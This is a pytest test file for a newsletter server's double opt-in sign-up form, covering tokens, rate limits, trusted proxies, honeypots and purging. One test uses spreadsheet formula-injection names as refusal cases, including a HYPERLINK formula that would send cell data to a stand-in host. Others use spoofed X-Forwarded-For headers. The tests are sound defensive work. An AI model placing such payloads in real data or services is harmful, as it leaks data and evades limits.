"""The sign-up form of `newsletter serve`: double opt-in, from the form to the outbox and back
through the confirmation link, with the lists and people.sqlite read back."""

from __future__ import annotations

import datetime as dt
import email.utils
import ipaddress
import os
import subprocess
import sys
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest

from newsletter.config import load_config
from newsletter.models import SUPPRESSING, Status
from newsletter.serve_signup import client_address
from newsletter.store import Signup
from newsletter.subscribers import CsvStore, People, add, purge, read_list
from newsletter.tokens import make_confirm_token, make_token
from tests.serve_helpers import SECRET, running
from tests.signup_helpers import (
    BASE,
    app_for,
    call,
    folder_with,
    free_port,
    link_for,
    link_in,
    outbox,
    sign_up,
    wait_until_up,
)
from tests.smtpd import SmtpServer
from tests.waits import HANG, wait_until

CONSENT = "Yes, send me this newsletter by email."


def statuses(root: Path, name: str = "subscribers.csv") -> dict[str, str]:
    path = root / "subscribers" / name
    return {p.email: p.status for p in read_list(path)} if path.exists() else {}


def snapshot(root: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted((root / "subscribers").glob("*.csv"))}


def test_the_form_is_plain_accessible_html(tmp_path: Path) -> None:
    """GET /subscribe: labelled fields, lang, autocomplete, the consent sentence, a hidden
    honeypot, no script, and no CORS header."""
    app, _ = app_for(folder_with(tmp_path, f'consent = "{CONSENT}"'))
    page = call(app, "GET", "/subscribe")
    assert page.status_code == 200
    text = page.text
    assert '<html lang="en">' in text
    assert '<label for="nl-email">' in text and 'id="nl-email"' in text
    assert '<label for="nl-name">' in text
    assert 'type="email" autocomplete="email" required' in text
    assert f'<p id="nl-consent">{CONSENT}</p>' in text
    assert '<div hidden aria-hidden="true" style="display: none">' in text
    assert 'name="website"' in text.split("<div hidden", 1)[1].split("</div>", 1)[0]
    assert "<script" not in text
    assert "access-control-allow-origin" not in page.headers
    assert 'name="list"' not in text  # one list: no choice to make


def test_cors_stays_closed(tmp_path: Path) -> None:
    """No answer lets another site's script read it: no preflight, no Allow-Origin."""
    app, _ = app_for(folder_with(tmp_path))
    origin = {"Origin": "https://elsewhere.example.com"}
    preflight = call(app, "OPTIONS", "/subscribe", headers=origin)
    assert preflight.status_code == 405
    posted = sign_up(app, "ann@example.org", headers=origin)
    for answer in (preflight, posted):
        assert not [k for k in answer.headers if k.startswith("access-control-")]


def test_sign_up_mails_a_link_and_confirming_subscribes_with_a_consent_record(
    tmp_path: Path,
) -> None:
    """POST: `pending` in the default list and one plain-text mail in the outbox; GET on its
    link changes nothing; POST subscribes and records the consent."""
    root = folder_with(tmp_path, f'consent = "{CONSENT}"')
    app, _ = app_for(root)
    before = dt.datetime.now(dt.UTC).replace(microsecond=0)
    answer = sign_up(app, "Ann@Example.org", name="Ann Smith")
    assert answer.status_code == 200 and "Check your inbox" in answer.text
    assert statuses(root) == {"Ann@example.org": "pending"}
    [message] = outbox(root)
    assert message["To"] == "Ann@example.org"
    assert message["From"] == "Test news <news@example.org>"
    assert message["Subject"] == "Confirm your subscription to Test news"
    assert email.utils.parsedate_to_datetime(message["Date"]) >= before
    assert message["Message-ID"].endswith("@example.org>")
    assert message.get_content_type() == "text/plain"
    assert CONSENT in message.get_content()
    assert "List-Unsubscribe" not in message  # not list mail: ignoring it is the way out
    link = link_in(message)
    lists = snapshot(root)
    page = call(app, "GET", link)
    assert page.status_code == 200 and '<form method="post">' in page.text
    assert "Confirm</button>" in page.text
    assert snapshot(root) == lists
    with People(root) as people:
        assert people.consents("ann@example.org") == []
    done = call(app, "POST", link)
    assert done.status_code == 200 and "You are subscribed" in done.text
    [row] = read_list(root / "subscribers" / "subscribers.csv")
    assert (row.email, row.name, row.status) == ("Ann@example.org", "Ann Smith", "subscribed")
    with People(root) as people:
        [record] = people.consents("ann@example.org")
    assert (record.list, record.source, record.text) == ("subscribers.csv", "web form", CONSENT)
    assert before <= dt.datetime.fromisoformat(record.at) <= dt.datetime.now(dt.UTC)
    assert record.at <= record.confirmed_at


def test_confirming_again_changes_nothing(tmp_path: Path) -> None:
    """A replayed confirmation writes nothing (one consent record), even after the person
    unsubscribed."""
    root = folder_with(tmp_path)
    app, _ = app_for(root)
    sign_up(app, "ann@example.org")
    link = link_in(outbox(root)[0])
    assert call(app, "POST", link).status_code == 200
    lists = snapshot(root)
    again = call(app, "POST", link)
    assert again.status_code == 200 and "confirmed before" in again.text
    assert snapshot(root) == lists
    with People(root) as people:
        assert len(people.consents("ann@example.org")) == 1
    CsvStore(root).set_status("ann@example.org", "unsubscribed", source="unsubscribe link")
    assert call(app, "POST", link).status_code == 200
    assert statuses(root) == {"ann@example.org": "unsubscribed"}  # an old link undoes nothing


def test_an_expired_link_changes_nothing(tmp_path: Path) -> None:
    """A link older than expires_days answers 400 to GET and POST and subscribes nobody."""
    root = folder_with(tmp_path, "expires_days = 2")
    app, config = app_for(root)
    asked = dt.datetime.now(dt.UTC) - dt.timedelta(days=2, seconds=5)
    CsvStore(root).request_signup(
        _signup("ann@example.org", asked), since=asked - dt.timedelta(hours=1)
    )
    token = make_confirm_token(
        SECRET, config.list_id, "ann@example.org", "", int(asked.timestamp())
    )
    for method in ("GET", "POST"):
        answer = call(app, method, f"/confirm/{token}")
        assert answer.status_code == 400 and "expired" in answer.text
    assert statuses(root) == {"ann@example.org": "pending"}


def test_tokens_of_one_purpose_do_not_work_for_the_other(tmp_path: Path) -> None:
    """An unsubscribe token is no confirmation, and a confirmation token unsubscribes nobody."""
    root = folder_with(tmp_path)
    add(root, "bob@example.org")
    app, config = app_for(root)
    sign_up(app, "ann@example.org")
    confirm_link = link_in(outbox(root)[0])
    unsubscribe = make_token(SECRET, config.list_id, "ann@example.org")
    lists = snapshot(root)
    assert call(app, "POST", f"/confirm/{unsubscribe}").status_code == 400
    token = confirm_link.rpartition("/")[2]
    one_click = {"content": b"List-Unsubscribe=One-Click"}
    headers = {"Content-Type": "application/x-www-form-urlencoded"}
    assert (
        call(app, "POST", f"/unsubscribe/{token}", headers=headers, **one_click).status_code == 400
    )
    assert snapshot(root) == lists
    bob = make_confirm_token(SECRET, config.list_id, "bob@example.org", "", 0)
    assert call(app, "POST", f"/unsubscribe/{bob}", headers=headers, **one_click).status_code == 400
    assert statuses(root)["bob@example.org"] == "subscribed"


def test_one_confirmation_per_address_per_hour_even_after_a_restart(tmp_path: Path) -> None:
    """The same address (any case) asking again within the hour gets no second mail, also
    from a restarted server; another address does."""
    root = folder_with(tmp_path)
    app, _ = app_for(root)
    assert sign_up(app, "ann@example.org").status_code == 200
    assert sign_up(app, "ANN@example.ORG").status_code == 200
    restarted, _ = app_for(root)
    assert sign_up(restarted, "ann@example.org").status_code == 200
    assert sign_up(restarted, "bob@example.org").status_code == 200
    assert sorted(m["To"] for m in outbox(root)) == ["ann@example.org", "bob@example.org"]


def test_the_address_limit_lets_the_address_ask_again_after_the_hour(tmp_path: Path) -> None:
    """The store refuses a second request within the period, and takes one after it."""
    root = folder_with(tmp_path)
    store = CsvStore(root)
    first = dt.datetime(2026, 1, 1, 12, tzinfo=dt.UTC)
    hour = dt.timedelta(hours=1)
    assert store.request_signup(_signup("ann@example.org", first), since=first - hour)
    later = first + dt.timedelta(minutes=59)
    assert not store.request_signup(_signup("ann@example.org", later), since=later - hour)
    after = first + dt.timedelta(minutes=61)
    assert store.request_signup(_signup("ann@example.org", after), since=after - hour)


def test_a_client_over_its_hourly_limit_gets_429(tmp_path: Path) -> None:
    """client_hourly_limit sign-ups from one client; the next gets 429 with Retry-After and
    sends nothing; another client is not held back."""
    root = folder_with(tmp_path, "client_hourly_limit = 3")
    app, _ = app_for(root)
    for n in range(3):
        assert sign_up(app, f"p{n}@example.org").status_code == 200
    refused = sign_up(app, "p3@example.org")
    assert refused.status_code == 429
    assert 0 < int(refused.headers["retry-after"]) <= 3600
    assert sign_up(app, "p4@example.org", client=("198.51.100.7", 1)).status_code == 200
    assert sorted(m["To"] for m in outbox(root)) == [f"p{n}@example.org" for n in (0, 1, 2, 4)]


def test_ipv6_clients_count_by_their_64(tmp_path: Path) -> None:
    """Two addresses of one IPv6 /64 are one client (a host usually holds the whole /64)."""
    app, _ = app_for(folder_with(tmp_path, "client_hourly_limit = 1"))
    assert sign_up(app, "a@example.org", client=("2001:db8:1:2::1", 1)).status_code == 200
    assert sign_up(app, "b@example.org", client=("2001:db8:1:2::99", 1)).status_code == 429
    assert sign_up(app, "c@example.org", client=("2001:db8:1:3::1", 1)).status_code == 200


def test_x_forwarded_for_counts_only_from_a_trusted_proxy(tmp_path: Path) -> None:
    """Behind the loopback proxy each forwarded client has its own limit; a peer that is not a
    trusted proxy is the client, whatever X-Forwarded-For it sends."""
    app, _ = app_for(folder_with(tmp_path, "client_hourly_limit = 1"))
    proxy = ("127.0.0.1", 40000)

    def via(peer: tuple[str, int], forwarded: str, email: str) -> int:
        headers = {"X-Forwarded-For": forwarded}
        return sign_up(app, email, client=peer, headers=headers).status_code

    assert via(proxy, "198.51.100.1", "a@example.org") == 200
    assert via(proxy, "198.51.100.2", "b@example.org") == 200
    assert via(proxy, "6.6.6.6, 198.51.100.2", "c@example.org") == 429  # the proxy's entry counts
    assert via(("203.0.113.50", 1), "198.51.100.3", "d@example.org") == 200
    assert via(("203.0.113.50", 1), "198.51.100.4", "e@example.org") == 429


def test_x_forwarded_for_in_several_lines_counts_the_proxys_line(tmp_path: Path) -> None:
    """A proxy that adds its own X-Forwarded-For line after the client's (HAProxy does): the
    client's line cannot make each sign-up another client."""
    app, _ = app_for(folder_with(tmp_path, "client_hourly_limit = 1"))
    proxy = ("127.0.0.1", 40000)

    def via(written: str, email: str) -> int:
        lines = [("X-Forwarded-For", written), ("X-Forwarded-For", "198.51.100.1")]
        return call(
            app, "POST", "/subscribe", data={"email": email}, client=proxy, headers=lines
        ).status_code

    assert via("6.6.6.1", "a@example.org") == 200
    assert via("6.6.6.2", "b@example.org") == 429


def test_trusted_proxies_can_be_set(tmp_path: Path) -> None:
    """With trusted_proxies naming another network, loopback's X-Forwarded-For is ignored."""
    app, _ = app_for(
        folder_with(tmp_path, 'client_hourly_limit = 1\ntrusted_proxies = ["10.0.0.0/8"]')
    )
    loop = ("127.0.0.1", 40000)
    assert (
        sign_up(
            app, "a@example.org", client=loop, headers={"X-Forwarded-For": "1.2.3.4"}
        ).status_code
        == 200
    )
    assert (
        sign_up(
            app, "b@example.org", client=loop, headers={"X-Forwarded-For": "1.2.3.5"}
        ).status_code
        == 429
    )
    inner = ("10.1.2.3", 1)
    assert (
        sign_up(
            app, "c@example.org", client=inner, headers={"X-Forwarded-For": "1.2.3.6"}
        ).status_code
        == 200
    )


def test_a_body_over_the_limit_is_413_and_sends_nothing(tmp_path: Path) -> None:
    """A body over max_body answers 413, whether its length is declared or streamed."""
    root = folder_with(tmp_path, "max_body = 2048")
    app, _ = app_for(root)
    body = b"email=ann%40example.org&name=" + b"x" * 3000
    headers = {"Content-Type": "application/x-www-form-urlencoded"}
    assert call(app, "POST", "/subscribe", content=body, headers=headers).status_code == 413

    async def chunks() -> AsyncIterator[bytes]:
        for start in range(0, len(body), 500):
            yield body[start : start + 500]

    streamed = call(app, "POST", "/subscribe", content=chunks(), headers=headers)
    assert streamed.status_code == 413
    assert outbox(root) == [] and statuses(root) == {}


def test_the_answer_is_the_same_whoever_the_address_is(tmp_path: Path) -> None:
    """New, subscribed, pending, unsubscribed and suppressed addresses get byte-identical
    answers (status, headers but Date, body)."""
    root = folder_with(tmp_path)
    add(root, "member@example.org")
    add(root, "gone@example.org")
    CsvStore(root).set_status("gone@example.org", "unsubscribed", source="test")
    add(root, "erased@example.org")
    purge(root, "erased@example.org")
    app, _ = app_for(root)
    sign_up(app, "waiting@example.org")
    addresses = ["new@example.org", "member@example.org", "waiting@example.org"]
    answers = [sign_up(app, a) for a in [*addresses, "gone@example.org", "erased@example.org"]]

    def seen(answer: httpx.Response) -> tuple[int, list[tuple[str, str]], bytes]:
        headers = [(k, v) for k, v in answer.headers.items() if k != "date"]
        return answer.status_code, headers, answer.content

    assert len({repr(seen(a)) for a in answers}) == 1
    assert answers[0].status_code == 200


def test_a_filled_honeypot_gets_the_same_answer_and_nothing_happens(tmp_path: Path) -> None:
    """A bot filling the hidden field is answered like a person; nothing is stored or sent."""
    root = folder_with(tmp_path)
    app, _ = app_for(root)
    bot = sign_up(app, "bot@example.org", website="http://spam.example.com")
    person = sign_up(app, "person@example.org", website="")
    assert (bot.status_code, bot.content) == (person.status_code, person.content)
    assert [m["To"] for m in outbox(root)] == ["person@example.org"]
    assert "bot@example.org" not in statuses(root)
    with People(root) as people:
        assert people.signup("bot@example.org", list_name="subscribers.csv", at="") is None
    assert b"bot@example.org" not in (root / ".newsletter" / "people.sqlite").read_bytes()


@pytest.mark.parametrize("status", SUPPRESSING)
def test_someone_who_left_comes_back_only_by_confirming(tmp_path: Path, status: Status) -> None:
    """Signing up changes nothing for an address that left; confirming subscribes it again."""
    root = folder_with(tmp_path)
    add(root, "ann@example.org", name="Ann")
    CsvStore(root).set_status("ann@example.org", status, source="test")
    app, _ = app_for(root)
    lists = snapshot(root)
    sign_up(app, "ann@example.org", name="Somebody Else")
    assert snapshot(root) == lists
    call(app, "POST", link_in(outbox(root)[0]))
    [row] = read_list(root / "subscribers" / "subscribers.csv")
    assert (row.status, row.name) == ("subscribed", "Ann")  # a form never renames anyone


def test_a_purged_address_comes_back_only_by_confirming(tmp_path: Path) -> None:
    """A suppressed (purged) address is not written into a list by a request; confirming
    subscribes it and lifts the suppression."""
    root = folder_with(tmp_path)
    add(root, "ann@example.org")
    purge(root, "ann@example.org")
    app, _ = app_for(root)
    sign_up(app, "ann@example.org")
    assert statuses(root) == {}
    assert call(app, "POST", link_in(outbox(root)[0])).status_code == 200
    assert statuses(root) == {"ann@example.org": "subscribed"}
    assert len(list(CsvStore(root).select())) == 1


def test_purge_after_sign_up_leaves_nothing_and_the_link_stops_working(tmp_path: Path) -> None:
    """After purge, people.sqlite holds nothing of the address; its old link subscribes nobody."""
    root = folder_with(tmp_path)
    app, _ = app_for(root)
    sign_up(app, "erase.me@example.org", name="Erase Me")
    link = link_in(outbox(root)[0])
    purge(root, "erase.me@example.org")
    raw = (root / ".newsletter" / "people.sqlite").read_bytes()
    assert b"erase.me" not in raw and b"Erase Me" not in raw
    answer = call(app, "POST", link)
    assert answer.status_code == 400
    assert statuses(root) == {}


def test_a_broken_list_logs_which_and_why_and_the_person_may_ask_again(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """A list that cannot be read: the same answer, nothing stored or sent, a log line naming
    the file and the problem (no address); once it is fixed the person may ask again at once."""
    root = folder_with(tmp_path)
    app, _ = app_for(root)
    fine = sign_up(app, "other@example.org")
    path = root / "subscribers" / "subscribers.csv"
    path.write_bytes(b'email,name,status\r\nbob@example.org,"Bob\r\n')
    broken = path.read_bytes()
    with caplog.at_level("ERROR", logger="newsletter.serve"):
        answer = sign_up(app, "ann@example.org")
    assert (answer.status_code, answer.content) == (fine.status_code, fine.content)
    assert path.read_bytes() == broken and [m["To"] for m in outbox(root)] == ["other@example.org"]
    [line] = [r.getMessage() for r in caplog.records]
    assert "sign-up not recorded" in line and f"{path}:2" in line
    assert "@" not in line
    path.write_bytes(b"email,name,status\r\n")
    sign_up(app, "ann@example.org")
    assert statuses(root) == {"ann@example.org": "pending"}


def test_a_list_choice_when_several_lists_are_offered(tmp_path: Path) -> None:
    """With [signup] lists the form offers them; the link subscribes to the chosen one only,
    and a pending sign-up does not hold back the person's other lists."""
    root = folder_with(tmp_path, 'lists = ["news", "events"]')
    add(root, "ann@example.org", list_path=root / "subscribers" / "news.csv")
    app, _ = app_for(root)
    form = call(app, "GET", "/subscribe").text
    assert 'name="list" value="news" required' in form and 'value="events"' in form
    assert sign_up(app, "ann@example.org").status_code == 400  # no list chosen
    assert sign_up(app, "ann@example.org", list="other").status_code == 400
    assert sign_up(app, "ann@example.org", list="events").status_code == 200
    assert statuses(root, "events.csv") == {"ann@example.org": "pending"}
    assert [s.email for s in CsvStore(root).select()] == ["ann@example.org"]  # still gets news
    call(app, "POST", link_in(outbox(root)[0]))
    assert statuses(root, "events.csv") == {"ann@example.org": "subscribed"}
    assert statuses(root, "news.csv") == {"ann@example.org": "subscribed"}


def test_a_bad_address_shows_the_form_again(tmp_path: Path) -> None:
    """Not an address: 400 with the form and what to fix; nothing stored or sent."""
    root = folder_with(tmp_path)
    app, _ = app_for(root)
    answer = sign_up(app, "not an address")
    assert answer.status_code == 400
    assert "Please enter an email address" in answer.text and 'name="email"' in answer.text
    assert outbox(root) == [] and statuses(root) == {}


def test_a_name_with_a_control_character_is_asked_again_for_that(tmp_path: Path) -> None:
    """A control character in the name: 400 saying so (not "shorten"); a line break is only
    white space, folded into one space."""
    root = folder_with(tmp_path)
    app, _ = app_for(root)
    answer = sign_up(app, "ann@example.org", name="Ann\x00Smith")
    assert answer.status_code == 400
    assert "without control characters" in answer.text and "shorten" not in answer.text
    assert sign_up(app, "bob@example.org", name="Bob\r\n Smith").status_code == 200
    [row] = read_list(root / "subscribers" / "subscribers.csv")
    assert (row.email, row.name) == ("bob@example.org", "Bob Smith")


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("https://x.example.com/?"&A1)', "+1+2", "-2+3", "@SUM(1)"]
)
def test_a_name_a_spreadsheet_would_run_is_refused(tmp_path: Path, name: str) -> None:
    """A name from the form that a spreadsheet reads as a formula is asked again: nothing is
    written to the list (which people open in one) and nothing is sent."""
    root = folder_with(tmp_path)
    app, _ = app_for(root)
    answer = sign_up(app, "ann@example.org", name=name)
    assert answer.status_code == 400 and "at its start" in answer.text
    assert statuses(root) == {} and outbox(root) == []


def test_signup_off_means_no_form(tmp_path: Path) -> None:
    """[signup] enabled = false: /subscribe is 404; unsubscribe still works."""
    app, _ = app_for(folder_with(tmp_path, "enabled = false"))
    assert call(app, "GET", "/subscribe").status_code == 404


def test_a_real_server_from_form_to_confirmation(tmp_path: Path) -> None:
    """Over HTTP with uvicorn: the mail comes after the answer; its link confirms."""
    root = folder_with(tmp_path)
    app, _ = app_for(root)
    with running(app) as url:
        answer = httpx.post(f"{url}/subscribe", data={"email": "ann@example.org"}, timeout=10)
        assert answer.status_code == 200
        wait_until(lambda: len(outbox(root)) == 1, "the confirmation in the outbox")
        link = link_in(outbox(root)[0])
        assert httpx.get(url + link, timeout=10).status_code == 200
        assert statuses(root) == {"ann@example.org": "pending"}
        assert httpx.post(url + link, timeout=10).status_code == 200
    assert statuses(root) == {"ann@example.org": "subscribed"}


def test_print_form_prints_a_plain_form_for_a_static_site(tmp_path: Path) -> None:
    """`serve --print-form`: a form posting to {base_url}/subscribe, no script, a list choice."""
    from tests.compose_helpers import run

    root = folder_with(tmp_path, 'lists = ["news", "events"]')
    result = run("--config", root, "serve", "--print-form")
    assert result.exit_code == 0, result.output
    out = result.output
    assert out.startswith(f'<form method="post" action="{BASE}/subscribe" accept-charset="utf-8">')
    assert "<script" not in out and 'autocomplete="email"' in out
    assert 'value="news"' in out and 'value="events"' in out
    assert load_config(explicit=root).signup.consent in out


def test_print_form_refuses_when_signup_is_off(tmp_path: Path) -> None:
    """A form for a static site that would post to a page `serve` does not offer (404) is no
    form to print: the command says why and exits non-zero, printing no HTML."""
    from tests.compose_helpers import run

    root = folder_with(tmp_path, "enabled = false")
    result = run("--config", root, "serve", "--print-form")
    assert result.exit_code != 0
    assert "<form" not in result.output and "[signup] enabled is false" in result.output


def _signup(email: str, asked: dt.datetime) -> Signup:
    return Signup(email, None, asked.replace(microsecond=0), consent=CONSENT)


def test_a_pending_person_gets_no_issue(tmp_path: Path) -> None:
    """`newsletter send` to the outbox mails the confirmed sign-up and the list, never the one
    who has not confirmed."""
    from tests.send_helpers import ISSUE, make_folder, run

    root = make_folder(tmp_path, 2, name="subscribers")
    app, _ = app_for(root)
    for person in ("confirmed@example.org", "waiting@example.org"):
        assert call(app, "POST", "/newsletter/subscribe", data={"email": person}).status_code == 200
    call(app, "POST", link_for(root, "confirmed@example.org"))
    done = run(root, "send", ISSUE, "--yes", "--json")
    assert done.returncode == 0, done.stderr
    issues = [m["To"].addresses[0].addr_spec for m in outbox(root) if "Confirm" not in m["Subject"]]
    assert sorted(issues) == ["confirmed@example.org", "reader0@example.org", "reader1@example.org"]


def test_the_serve_command_reads_x_forwarded_for_only_from_trusted_proxies(
    tmp_path: Path,
) -> None:
    """`newsletter serve` as a real process: with loopback not a trusted proxy, two sign-ups
    from loopback are one client whatever X-Forwarded-For says (uvicorn must not trust it
    either); the mail goes to the outbox, and the log holds no address."""
    root = folder_with(tmp_path, 'client_hourly_limit = 1\ntrusted_proxies = ["10.0.0.0/8"]')
    port = free_port()
    env = {**os.environ, "NEWSLETTER_SECRET": SECRET.decode()}
    command = [sys.executable, "-m", "newsletter", "--config", str(root), "serve"]
    server = subprocess.Popen(
        [*command, "--port", str(port)], env=env, stderr=subprocess.PIPE, text=True
    )
    url = f"http://127.0.0.1:{port}/subscribe"
    try:
        wait_until_up(url, server)
        codes = [
            httpx.post(url, data={"email": e}, headers={"X-Forwarded-For": f}, timeout=10)
            for e, f in (("ann@example.org", "198.51.100.1"), ("bob@example.org", "198.51.100.2"))
        ]
        assert [c.status_code for c in codes] == [200, 429]
        wait_until(lambda: len(outbox(root)) == 1, "the confirmation in the outbox")
    finally:
        server.terminate()
        _out, err = server.communicate(timeout=HANG)
    assert [m["To"] for m in outbox(root)] == ["ann@example.org"]
    assert "confirmation sent" in err and "ann@" not in err


def test_the_confirmation_goes_through_smtp_and_a_failed_send_can_be_retried(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """With [smtp] host set the confirmation goes to that server (envelope from the `from`
    address); when the server cannot be reached, nothing counts against the address, so
    asking again at once (after a restart, with the server up) mails it."""
    root = folder_with(tmp_path)
    down = free_port()  # nothing listens there
    smtp = "\n[smtp]\nhost = '127.0.0.1'\nsecurity = 'none'\ntimeout = 30\nport = {}\n"
    text = (root / "newsletter.toml").read_text()
    (root / "newsletter.toml").write_text(text + smtp.format(down))
    app, _ = app_for(root)
    with caplog.at_level("ERROR", logger="newsletter.serve"):
        assert sign_up(app, "ann@example.org").status_code == 200
    assert "confirmation not sent" in caplog.text and "ann@" not in caplog.text
    with SmtpServer() as server:
        (root / "newsletter.toml").write_text(text + smtp.format(server.port))
        app, _ = app_for(root)
        assert sign_up(app, "ann@example.org").status_code == 200
        [received] = server.messages
    assert (received.sender, received.recipients) == ("news@example.org", ("ann@example.org",))
    assert b"\r\nSubject: Confirm your subscription to Test news\r\n" in received.data


def test_a_server_without_smtputf8_fails_the_confirmation_cleanly(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """A non-ASCII address and a server offering neither SMTPUTF8 nor 8BITMIME: the failure is
    logged (no traceback) and forgotten, so the person may ask again at once."""
    root = folder_with(tmp_path)
    text = (root / "newsletter.toml").read_text()
    smtp = "\n[smtp]\nhost = '127.0.0.1'\nsecurity = 'none'\ntimeout = 30\nport = {}\n"
    with SmtpServer(smtputf8=False, eight_bit=False) as old:
        (root / "newsletter.toml").write_text(text + smtp.format(old.port))
        app, _ = app_for(root)
        with caplog.at_level("ERROR", logger="newsletter.serve"):
            assert sign_up(app, "zoë@example.org").status_code == 200
        assert old.messages == []
    assert "confirmation not sent" in caplog.text and "SMTPUTF8" in caplog.text
    with SmtpServer() as server:
        (root / "newsletter.toml").write_text(text + smtp.format(server.port))
        app, _ = app_for(root)
        assert sign_up(app, "zoë@example.org").status_code == 200
        [received] = server.messages
    assert received.recipients == ("zoë@example.org",)


@pytest.mark.parametrize(
    ("peer", "forwarded", "client"),
    [
        ("203.0.113.9", "198.51.100.1", "203.0.113.9"),  # not a proxy: the header is the client's
        ("127.0.0.1", "198.51.100.1", "198.51.100.1"),
        ("::1", "2001:db8::7", "2001:db8::7"),
        ("::ffff:127.0.0.1", "198.51.100.1", "198.51.100.1"),  # loopback on a dual-stack socket
        ("127.0.0.1", "6.6.6.6, 198.51.100.1", "198.51.100.1"),  # what the client wrote: ignored
        ("127.0.0.1", "198.51.100.1, 127.0.0.1", "198.51.100.1"),  # through two local proxies
        ("127.0.0.1", "", "127.0.0.1"),
        ("127.0.0.1", "198.51.100.1:4711", "198.51.100.1"),  # a proxy that adds the port
        ("127.0.0.1", "[2001:db8::7]:4711", "2001:db8::7"),
        ("127.0.0.1", "[2001:db8::7]", "2001:db8::7"),
        ("127.0.0.1", "6.6.6.6:80, 198.51.100.1:4711", "198.51.100.1"),
    ],
)
def test_the_client_behind_trusted_proxies(peer: str, forwarded: str, client: str) -> None:
    """The client is the last address a trusted proxy names, never one the client wrote."""
    trusted = [ipaddress.ip_network(n) for n in ("127.0.0.1", "::1")]
    assert client_address(peer, forwarded, trusted) == client
